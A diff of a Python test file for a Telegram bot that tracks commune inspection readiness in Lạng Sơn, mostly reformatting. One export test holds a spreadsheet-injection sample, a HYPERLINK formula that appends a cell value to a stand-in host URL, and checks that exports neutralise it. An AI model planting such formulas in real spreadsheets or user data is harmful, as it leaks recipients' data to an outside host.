@@ -26,8 +26,16 @@ def clock():
 @pytest.fixture
 def make_core(kb, searcher, config, clock):
     def make():
-        return Core(kb, searcher, Storage(config.database), province="Lạng Sơn", admin_ids={ADMIN},
-                    now=lambda: clock["now"], today=lambda: clock["now"].date())
+        return Core(
+            kb,
+            searcher,
+            Storage(config.database),
+            province="Lạng Sơn",
+            admin_ids={ADMIN},
+            now=lambda: clock["now"],
+            today=lambda: clock["now"].date(),
+        )
+
     return make
 
 
@@ -83,10 +91,20 @@ def test_overdue_reminder_is_sent_once_marked_late(make_core, clock):
     core = make_core()
     for uid in (1, 2, 3):
         core.storage.touch_user(uid, f"u{uid}")
-    rid = core.storage.save_reminder({"created_by": ADMIN, "text": "Nộp báo cáo", "target": "all", "target_arg": "",
-                                      "kind": "weekly", "weekday": 0, "time": "08:00", "status": "active",
-                                      "next_run": datetime(2026, 11, 9, 8, 0, tzinfo=TZ).isoformat()})
-    bid, late = core.reminders.fire(rid)          # the bot was down for two weeks
+    rid = core.storage.save_reminder(
+        {
+            "created_by": ADMIN,
+            "text": "Nộp báo cáo",
+            "target": "all",
+            "target_arg": "",
+            "kind": "weekly",
+            "weekday": 0,
+            "time": "08:00",
+            "status": "active",
+            "next_run": datetime(2026, 11, 9, 8, 0, tzinfo=TZ).isoformat(),
+        }
+    )
+    bid, late = core.reminders.fire(rid)  # the bot was down for two weeks
     assert bid and late
     assert "(Nhắc việc gửi muộn do hệ thống tạm ngừng.)\n\n— đoàn kiểm tra" in core.storage.get_broadcast(bid)["text"]
     assert core.storage.get_reminder(rid)["next_run"].startswith("2026-11-30T08:00")
@@ -157,7 +175,7 @@ def _seed_units(core, kb):
         core.storage.set_user_unit(uid, unit, confirmed=True)
     cl = kb.checklists["san-sang-dgnb"]
     run = core.storage.start_run(11, u1, cl.id)
-    for i, item in enumerate(cl.items):
+    for i in range(len(cl.items)):
         core.press(User(11), f"ca:{run['id']}:{i}:{'c' if i < 3 else 'd'}")
     return u1, u2
 
@@ -165,28 +183,42 @@ def _seed_units(core, kb):
 def test_progress_lists_every_commune_of_the_province_laggards_first(make_core, kb):
     core = make_core()
     u1, _ = _seed_units(core, kb)
-    core.storage.create_task({"unit_id": u1, "created_by": 11, "owner_id": 12, "source": "audit", "finding": "x",
-                             "what": "Cập nhật quy trình chứng thực", "due": "2026-11-20"})
+    core.storage.create_task(
+        {
+            "unit_id": u1,
+            "created_by": 11,
+            "owner_id": 12,
+            "source": "audit",
+            "finding": "x",
+            "what": "Cập nhật quy trình chứng thực",
+            "due": "2026-11-20",
+        }
+    )
     text = core.press(User(ADMIN), "pg:all").text
     assert "Tiến độ Lạng Sơn: 65 xã, phường, 0 cơ quan" in text
     assert "Chưa đăng ký: 63 · chưa tự đánh giá: 1 · điểm dưới 50: 0 · có việc quá hạn: 1" in text
-    assert "chưa ai đăng ký" in text and "Sở Khoa học" not in text        # the office is not a commune
+    assert "chưa ai đăng ký" in text and "Sở Khoa học" not in text  # the office is not a commune
     not_started = core.press(User(ADMIN), "pg:not-started").text
     assert "Phường Tam Thanh: 1 người, chưa tự đánh giá" in not_started and "Xã Lộc Bình" not in not_started
     overdue = core.press(User(ADMIN), "pg:overdue").text
     assert "Xã Lộc Bình: 2 người · điểm" in overdue and "việc: 1 mở, 1 quá hạn" in overdue
     pages = [b.data for row in core.press(User(ADMIN), "pg:all").buttons for b in row if b.data.startswith("pn:")]
     assert pages == ["pn:all:1"]
-    last = core.press(User(ADMIN), "pn:all:8").text                        # 65 rows, 8 a page: page 9
+    last = core.press(User(ADMIN), "pn:all:8").text  # 65 rows, 8 a page: page 9
     assert "Xã Lộc Bình" in last and "Phường Tam Thanh" in core.press(User(ADMIN), "pn:all:7").text
     xlsx = core.press(User(ADMIN), "px:all").attachment
     ws = load_workbook(io.BytesIO(xlsx.data)).active
     header = [c.value for c in ws[1]]
     assert header[:5] == ["Đơn vị", "Tỉnh, thành phố", "Tình trạng", "Thành viên đã xác nhận", "Chờ xác nhận"]
-    rows = {r[0]: dict(zip(header, r)) for r in ws.iter_rows(min_row=2, values_only=True)}
+    rows = {r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
     assert len(rows) == 65 and rows["Xã Lộc Bình"]["Tình trạng"] == "Đã tự đánh giá"
     lb = rows["Xã Lộc Bình"]
-    assert (lb["Thành viên đã xác nhận"], lb["Bảng kiểm đã xong"], lb["Nội dung chưa đạt"], lb["Việc quá hạn"]) == (2, 1, 3, 1)
+    assert (lb["Thành viên đã xác nhận"], lb["Bảng kiểm đã xong"], lb["Nội dung chưa đạt"], lb["Việc quá hạn"]) == (
+        2,
+        1,
+        3,
+        1,
+    )
     assert rows["Xã Bình Gia"]["Tình trạng"] == "Chưa đăng ký"
     csv = core.press(User(ADMIN), "pv:below").attachment.data.decode("utf-8-sig")
     assert csv.splitlines()[0].startswith("Đơn vị,")
@@ -204,9 +236,20 @@ def test_drill_down_into_a_unit_and_its_readiness_pack(make_core, kb):
     for i, item in enumerate(cl.items):
         core.press(User(12), f"ca:{run['id']}:{i}:{'c' if item.id == 'dgnb-nam-nay' else 'd'}")
     core.storage.save_answer(run["id"], "quy-trinh-cap-nhat", note="Đã cập nhật 12 quy trình tháng 10")
-    tid = core.storage.create_task({"unit_id": u1, "created_by": 12, "owner_id": 11, "source": "checklist",
-                                    "run_id": run["id"], "checklist_id": cl.id, "item_id": "dgnb-nam-nay",
-                                    "finding": "x", "what": "Tổ chức ĐGNB năm 2026", "due": "2026-12-20"})
+    tid = core.storage.create_task(
+        {
+            "unit_id": u1,
+            "created_by": 12,
+            "owner_id": 11,
+            "source": "checklist",
+            "run_id": run["id"],
+            "checklist_id": cl.id,
+            "item_id": "dgnb-nam-nay",
+            "finding": "x",
+            "what": "Tổ chức ĐGNB năm 2026",
+            "due": "2026-12-20",
+        }
+    )
     screen = core.press(User(ADMIN), "pd:6529")
     assert "🔎 Xã Lộc Bình (Lạng Sơn)" in screen.text and "2 đã xác nhận, 0 chờ xác nhận" in screen.text
     assert "Chuẩn bị cho đoàn kiểm tra của tỉnh: " in screen.text and "lần cuối: u12" in screen.text
@@ -223,7 +266,7 @@ def test_drill_down_into_a_unit_and_its_readiness_pack(make_core, kb):
     assert "❌ Chưa đạt" in cells and "Đã cập nhật 12 quy trình tháng 10" in cells
     assert f"Việc #{tid}: Tổ chức ĐGNB năm 2026" in cells
     assert core.press(User(11), labels["📄 Hồ sơ sẵn sàng đón kiểm tra (.docx)"]).attachment is not None  # a member
-    assert core.press(User(13), f"pk:{u1}").stale                           # another commune
+    assert core.press(User(13), f"pk:{u1}").stale  # another commune
     assert "chỉ dành cho" in core.press(User(11), "pd:6529").text
     from bot import units
     from bot.members import join_code
@@ -242,7 +285,9 @@ def test_weekly_digest_goes_to_inspectors_once_a_week(make_core, kb, clock):
     (bid,) = core.progress.digest()
     b = core.storage.get_broadcast(bid)
     assert "Chưa đăng ký: 63" in b["text"] and "/tiendo" in b["text"]
-    assert sorted(d["user_id"] for d in core.storage.db.query("SELECT user_id FROM deliveries")) == sorted([INSPECTOR, ADMIN])
+    assert sorted(d["user_id"] for d in core.storage.db.query("SELECT user_id FROM deliveries")) == sorted(
+        [INSPECTOR, ADMIN]
+    )
     assert core.progress.digest() == []
 
 
@@ -272,25 +317,45 @@ async def test_restart_reschedules_reminders_and_sends_overdue_once(offline_app,
     storage = Storage(config.database)
     for uid in (21, 22):
         storage.touch_user(uid, "u")
-    storage.touch_user(ADMIN, "Admin")               # the inspector who made the reminders, reached for the report
-    overdue = storage.save_reminder({"created_by": ADMIN, "text": "Quá hạn", "target": "all", "target_arg": "",
-                                     "kind": "once", "at": "2026-11-24T08:00+07:00", "status": "active",
-                                     "next_run": "2026-11-24T08:00:00+07:00"})
-    pending = storage.save_reminder({"created_by": ADMIN, "text": "Sắp tới", "target": "all", "target_arg": "",
-                                     "kind": "once", "at": "2026-12-01T08:00+07:00", "status": "active",
-                                     "next_run": "2026-12-01T08:00:00+07:00"})
-    for attempt in range(2):                          # two restarts in a row
+    storage.touch_user(ADMIN, "Admin")  # the inspector who made the reminders, reached for the report
+    overdue = storage.save_reminder(
+        {
+            "created_by": ADMIN,
+            "text": "Quá hạn",
+            "target": "all",
+            "target_arg": "",
+            "kind": "once",
+            "at": "2026-11-24T08:00+07:00",
+            "status": "active",
+            "next_run": "2026-11-24T08:00:00+07:00",
+        }
+    )
+    pending = storage.save_reminder(
+        {
+            "created_by": ADMIN,
+            "text": "Sắp tới",
+            "target": "all",
+            "target_arg": "",
+            "kind": "once",
+            "at": "2026-12-01T08:00+07:00",
+            "status": "active",
+            "next_run": "2026-12-01T08:00:00+07:00",
+        }
+    )
+    for attempt in range(2):  # two restarts in a row
         app, api, _ = await offline_app(admin_ids={ADMIN}, now=lambda: clock["now"])
         scheduler = app.bot_data["scheduler"]
         await scheduler.restore()
         assert f"reminder:{pending}" in scheduler.jobs()
         assert (f"reminder:{overdue}" in scheduler.jobs()) == (attempt == 0), "once fired, an overdue one-off is done"
-        await scheduler._reminder_job(overdue)      # as if its job ran (again, on the second start)
+        await scheduler._reminder_job(overdue)  # as if its job ran (again, on the second start)
         texts = [p["text"] for m, p in api.calls if m == "sendMessage"]
         to_users = [p["text"] for m, p in api.calls if m == "sendMessage" and int(p["chat_id"]) in (21, 22)]
         if attempt == 0:
             assert len(to_users) == 2 and all("Quá hạn" in t and "gửi muộn" in t for t in to_users)
-            assert any("Đã gửi xong" in t and "thành công: 3" in t for t in texts), "the sender (also a user) gets a report"
+            assert any("Đã gửi xong" in t and "thành công: 3" in t for t in texts), (
+                "the sender (also a user) gets a report"
+            )
         else:
             assert to_users == [], "never twice"
         await app.shutdown()
@@ -302,7 +367,7 @@ def test_exports_never_carry_live_formulas(make_core, config_file, capsys):
 
     core = make_core()
     evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
-    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")   # an agency typed by name
+    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")  # an agency typed by name
     core.storage.touch_user(31, "u")
     core.storage.set_user_unit(31, unit)
     # questions are kept folded ("+SUM(1,2)" → "sum 1 2"), so a curator export can only meet a formula
@@ -313,7 +378,7 @@ def test_exports_never_carry_live_formulas(make_core, config_file, capsys):
     cells = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
     assert f"'{evil}" in cells and not any(str(v).startswith(("=", "+", "-", "@")) for v in cells)
     csv = core.press(User(ADMIN), "pv:all").attachment.data.decode("utf-8-sig")
-    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ',=HYPERLINK' not in csv
+    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
     assert main(["kb", "unanswered", "--config", str(config_file)]) == 0
     out = capsys.readouterr().out
     assert "'=cmd" in out and "'@thoi" in out and ",=cmd" not in out and ",@thoi" not in out
@@ -343,7 +408,7 @@ async def test_after_a_kill_only_messages_really_on_their_way_are_unknown_and_ca
     slow = SlowTelegram()
     task = asyncio.create_task(broadcast.run(storage, bid, slow.send, rate=10, workers=8))
     await asyncio.sleep(0.75)
-    task.cancel()                                     # the process dies: nothing settles what was in flight
+    task.cancel()  # the process dies: nothing settles what was in flight
     await asyncio.gather(task, return_exceptions=True)
     in_flight = set(slow.started) - set(slow.finished)
     restarted = Storage(config.database)
